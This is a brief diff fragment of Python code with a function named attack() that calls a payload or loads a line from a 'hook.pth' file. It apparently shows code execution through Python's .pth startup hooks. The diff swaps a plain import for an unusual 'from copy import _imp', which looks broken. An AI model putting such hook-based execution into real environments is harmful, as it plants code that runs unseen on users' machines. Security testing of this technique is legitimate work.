@@ -8,7 +8,7 @@ from . import payload
 
 
 def attack():
-    import _imp
+    from copy import _imp
     if not _imp.has_policy():
         return payload.act()
     line = _imp.load_pth_line(payload.DEPS + "/hook.pth",
